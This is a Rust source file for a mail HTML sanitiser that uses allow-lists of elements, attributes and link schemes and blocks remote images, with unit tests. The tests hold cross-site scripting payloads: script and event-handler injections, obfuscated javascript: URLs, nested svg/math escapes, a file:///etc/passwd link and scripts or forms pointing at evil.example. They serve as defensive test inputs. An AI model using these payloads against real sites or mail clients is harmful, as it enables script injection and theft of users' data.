use super::entities::{decoded, escape};
use super::tokens::{Token, Tokens, attributes};

/// Deepest that elements are kept inside each other.
const MAX_DEPTH: usize = 100;
/// Longest URL that is kept, in bytes.
const MAX_URL_BYTES: usize = 2048;
/// What closing the open elements may take, in bytes: a hundred of the longest name.
const CLOSING_BYTES: usize = 1400;

/// Elements that are kept.
const KEPT: [&str; 52] = [
    "a",
    "abbr",
    "b",
    "blockquote",
    "br",
    "caption",
    "center",
    "code",
    "col",
    "colgroup",
    "dd",
    "del",
    "div",
    "dl",
    "dt",
    "em",
    "h1",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "hr",
    "i",
    "img",
    "ins",
    "kbd",
    "li",
    "mark",
    "ol",
    "p",
    "pre",
    "q",
    "s",
    "small",
    "span",
    "strike",
    "strong",
    "sub",
    "sup",
    "table",
    "tbody",
    "td",
    "tfoot",
    "th",
    "thead",
    "tr",
    "tt",
    "u",
    "ul",
    "var",
    "wbr",
];
/// Those that have no content.
const VOID: [&str; 5] = ["br", "col", "hr", "img", "wbr"];
/// Elements that go with all that is in them. The others that are not kept leave their text.
const DROPPED: [&str; 20] = [
    "applet",
    "audio",
    "canvas",
    "embed",
    "frame",
    "frameset",
    "iframe",
    "math",
    "noembed",
    "noframes",
    "noscript",
    "object",
    "plaintext",
    "script",
    "select",
    "style",
    "svg",
    "template",
    "textarea",
    "title",
];
/// Those of them that have no end.
const ENDLESS: [&str; 2] = ["embed", "frame"];

/// Sanitises untrusted HTML for display: it is rewritten from an allow-list of elements and attributes,
/// every text is escaped, every element closed. No script, style, form or frame, and nothing loaded from
/// other servers: an image names its part of the mail (`data-cid`), or that it was left out
/// (`data-blocked`). At most `max_bytes`; `true` if it was cut.
#[must_use]
pub fn sanitised(html: &str, max_bytes: usize) -> (String, bool) {
    let mut clean = Clean {
        max: max_bytes.saturating_sub(CLOSING_BYTES),
        ..Clean::default()
    };
    for token in Tokens::of(html) {
        if !clean.take(token) {
            clean.is_cut = true;
            break;
        }
    }
    clean.finish()
}

#[derive(Default)]
struct Clean {
    out: String,
    open: Vec<&'static str>,
    /// The element that is left out with its content, and how deep inside itself.
    dropped: Option<(String, usize)>,
    max: usize,
    is_cut: bool,
}

impl Clean {
    /// `false` where there is no room for more.
    fn take(&mut self, token: Token<'_>) -> bool {
        if let Some((name, depth)) = &mut self.dropped {
            match token {
                Token::Open(inner, _) if inner == *name => *depth += 1,
                Token::Close(inner) if inner == *name => *depth -= 1,
                _ => {}
            }
            if *depth == 0 {
                self.dropped = None;
            }
            return true;
        }
        let mut piece = String::new();
        match token {
            Token::Text(text) => escape(&decoded(text), &mut piece),
            Token::Open(name, rest) => return self.open(name, rest),
            Token::Close(name) => return self.close(&name),
        }
        self.add(&piece)
    }

    fn add(&mut self, piece: &str) -> bool {
        if self.out.len() + piece.len() > self.max {
            return false;
        }
        self.out.push_str(piece);
        true
    }

    fn open(&mut self, name: String, rest: &str) -> bool {
        if DROPPED.contains(&name.as_str()) {
            let is_endless = ENDLESS.contains(&name.as_str());
            self.dropped = (!is_endless).then_some((name, 1));
            return true;
        }
        let Some(name) = KEPT.iter().find(|kept| **kept == name).copied() else {
            return true;
        };
        let is_void = VOID.contains(&name);
        if !is_void && self.open.len() >= MAX_DEPTH {
            return true;
        }
        let mut piece = format!("<{name}");
        for (attribute, value) in attributes(rest) {
            if let Some((attribute, value)) = kept_attribute(name, &attribute, &value) {
                let is_there = piece.contains(&format!(" {attribute}=\""));
                if !is_there {
                    piece.push_str(&format!(" {attribute}=\""));
                    escape(&value, &mut piece);
                    piece.push('"');
                }
            }
        }
        if name == "a" {
            piece.push_str(" rel=\"noopener noreferrer nofollow\" target=\"_blank\"");
        }
        piece.push('>');
        let fits = self.add(&piece);
        if fits && !is_void {
            self.open.push(name);
        }
        fits
    }

    /// Closes an element, and those inside it that were left open. What is not open is not closed.
    fn close(&mut self, name: &str) -> bool {
        let Some(at) = self.open.iter().rposition(|open| *open == name) else {
            return true;
        };
        for name in self.open.split_off(at).into_iter().rev() {
            // Room for it was left.
            self.out.push_str("</");
            self.out.push_str(name);
            self.out.push('>');
        }
        true
    }

    fn finish(mut self) -> (String, bool) {
        if let Some(first) = self.open.first().copied() {
            while !self.open.is_empty() {
                self.close(first);
            }
        }
        (self.out.trim().to_owned(), self.is_cut)
    }
}

/// An attribute as written; `None` if it is dropped.
fn kept_attribute(element: &str, name: &str, value: &str) -> Option<(&'static str, String)> {
    let number = |max: u32| {
        let number: u32 = value.trim().trim_end_matches("px").parse().ok()?;
        (number <= max).then(|| number.to_string())
    };
    let one_of = |known: &[&'static str]| {
        let value = value.trim().to_ascii_lowercase();
        known
            .iter()
            .find(|word| **word == value)
            .map(|word| (*word).to_owned())
    };
    match (element, name) {
        ("a", "href") => link(value).map(|url| ("href", url)),
        ("img", "src") => Some(image(value)),
        ("img", "alt") => Some(("alt", value.to_owned())),
        ("img", "width") => number(4000).map(|n| ("width", n)),
        ("img", "height") => number(4000).map(|n| ("height", n)),
        ("td" | "th", "colspan") => number(100).map(|n| ("colspan", n)),
        ("td" | "th", "rowspan") => number(100).map(|n| ("rowspan", n)),
        ("ol", "start") => number(10_000).map(|n| ("start", n)),
        ("p" | "div" | "td" | "th" | "tr" | "table" | "h1" | "h2" | "h3", "align") => {
            one_of(&["left", "right", "center", "justify"]).map(|value| ("align", value))
        }
        (_, "dir") => one_of(&["ltr", "rtl", "auto"]).map(|value| ("dir", value)),
        (_, "title") => Some(("title", value.to_owned())),
        _ => None,
    }
}

/// A URL as browsers read it: what they leave out of one is left out before its scheme is looked at.
fn plain_url(value: &str) -> Option<String> {
    let is_skipped = |c: char| c.is_control() || c.is_whitespace();
    let url: String = value.chars().filter(|c| !is_skipped(*c)).collect();
    (url.len() <= MAX_URL_BYTES).then_some(url)
}

fn link(value: &str) -> Option<String> {
    let url = plain_url(value)?;
    let (scheme, _) = url.split_once(':')?;
    let is_kept = ["https", "http", "mailto", "tel"]
        .iter()
        .any(|kept| scheme.eq_ignore_ascii_case(kept));
    is_kept.then_some(url)
}

/// Images are parts of the mail, or they are not loaded: whoever serves one learns who reads it.
fn image(value: &str) -> (&'static str, String) {
    let cid = plain_url(value).and_then(|url| {
        let (scheme, id) = url.split_once(':')?;
        scheme.eq_ignore_ascii_case("cid").then(|| id.to_owned())
    });
    match cid {
        Some(id) => ("data-cid", id),
        None => ("data-blocked", "true".to_owned()),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    const ROOM: usize = 65_536;

    #[track_caller]
    fn check(html: &str, expected: &str) {
        let (clean, is_cut) = sanitised(html, ROOM);
        assert_eq!((clean.as_str(), is_cut), (expected, false));
        // What is clean stays as it is, but for what marks its images.
        if !clean.contains("data-") {
            assert_eq!(sanitised(&clean, ROOM).0, clean);
        }
    }

    #[test]
    fn what_people_write_stays() {
        check(
            "<p>Hello <b>you</b> &amp; me</p>",
            "<p>Hello <b>you</b> &amp; me</p>",
        );
        check(
            "<div dir=RTL align=\"center\" class=x style='color:red' id=y>x</div>",
            "<div dir=\"rtl\" align=\"center\">x</div>",
        );
        check(
            "<table border=1><tr><td colspan=2 onclick=x>a</td></tr></table>",
            "<table><tr><td colspan=\"2\">a</td></tr></table>",
        );
        check(
            "<a href=\"https://a.example/?x=1&amp;y='2\" onclick=alert(1)>x</a>",
            "<a href=\"https://a.example/?x=1&amp;y=&#39;2\" rel=\"noopener noreferrer nofollow\" target=\"_blank\">x</a>",
        );
    }

    #[test]
    fn what_runs_goes_with_its_content() {
        for html in [
            "<script>alert(1)</script>",
            "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
            "<script>a</script x>",
            "<style>@import 'x'</style>",
            "<svg onload=alert(1)><a xlink:href='javascript:x'>y</a></svg>",
            "<svg><svg></svg><style><img src=x onerror=alert(1)></style></svg>",
            "<math><mtext><table><mglyph><style><img></style></math>",
            "<iframe src=javascript:alert(1)></iframe>",
            "<object data=x><embed src=y></object>",
            "<template><img src=x onerror=y></template>",
            "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
            "<title></title><textarea></textarea>",
            "<link rel=stylesheet href=x><meta http-equiv=refresh content=0><base href=//evil.example>",
            "<!--><!-- <script> -->",
            "<select><option>x</select>",
            "<svg>",
            "<script>never closed",
        ] {
            let (clean, _) = sanitised(html, ROOM);
            let mut harmless = clean.replace("<img data-blocked=\"true\">", "");
            harmless = harmless.replace("&quot;", "").replace("&gt;", "");
            assert_eq!(harmless, "", "{html}: {clean}");
        }
    }

    #[test]
    fn forms_leave_their_words_and_nothing_else() {
        check(
            "<form action=//evil.example><input name=x><button>Go</button> on</form>",
            "Go on",
        );
        check("<foo>x</foo><body onload=x>y</body>", "xy");
    }

    #[test]
    fn urls_that_run_are_no_links() {
        for href in [
            "javascript:alert(1)",
            "JaVaScRiPt:alert(1)",
            " \u{1}javascript:alert(1)",
            "java\nscript:alert(1)",
            "java&#10;script:alert(1)",
            "&#106;avascript&colon;alert(1)",
            "data:text/html,<script>",
            "vbscript:x",
            "//evil.example",
            "/relative",
            "file:///etc/passwd",
            "blob:x",
        ] {
            let html = format!("<a href=\"{href}\">x</a>");
            let (clean, _) = sanitised(&html, ROOM);
            assert_eq!(
                clean, "<a rel=\"noopener noreferrer nofollow\" target=\"_blank\">x</a>",
                "{href}"
            );
        }
    }

    #[test]
    fn images_load_nothing() {
        check(
            "<img src=\"cid:logo@x\" alt=Logo width=20px>",
            "<img data-cid=\"logo@x\" alt=\"Logo\" width=\"20\">",
        );
        for src in [
            "https://evil.example/pixel.gif",
            "data:image/svg+xml,<svg onload=x>",
            "x",
            "",
        ] {
            let (clean, _) =
                sanitised(&format!("<img src='{src}' srcset='{src}' onerror=x>"), ROOM);
            assert_eq!(clean, "<img data-blocked=\"true\">", "{src}");
        }
    }

    #[test]
    fn nothing_breaks_out_of_an_attribute_or_a_tag() {
        check(
            "<p title='\"><script>x</script>'>y</p>",
            "<p title=\"&quot;&gt;&lt;script&gt;x&lt;/script&gt;\">y</p>",
        );
        check("<p title=\"a\" title=\"b\">x</p>", "<p title=\"a\">x</p>");
        check("<p/onclick=alert(1)>x", "<p>x</p>");
        check("a < b <3 </nothing> & c", "a &lt; b &lt;3  &amp; c");
        check(
            "&lt;script&gt;alert(1)&lt;/script&gt;",
            "&lt;script&gt;alert(1)&lt;/script&gt;",
        );
        let (clean, _) = sanitised("<img src=x title=\"`onerror=alert(1)", ROOM);
        assert_eq!(
            clean,
            "<img data-blocked=\"true\" title=\"`onerror=alert(1)\">"
        );
    }

    #[test]
    fn every_element_is_closed_and_none_closes_ours() {
        check(
            "<div><p>a<b>b</div></div></p></table>c",
            "<div><p>a<b>b</b></p></div>c",
        );
        let (clean, _) = sanitised(&"<div>".repeat(10_000), ROOM);
        assert_eq!(
            (
                clean.matches("<div>").count(),
                clean.matches("</div>").count()
            ),
            (100, 100)
        );
    }

    #[test]
    fn what_is_too_long_is_cut_between_two_pieces_and_closed() {
        let html = format!("<blockquote>{}</blockquote>", "<p>word</p>".repeat(10_000));
        let (clean, is_cut) = sanitised(&html, 4096);
        assert!(is_cut && clean.len() <= 4096);
        assert!(clean.ends_with("</p></blockquote>"));
    }
}
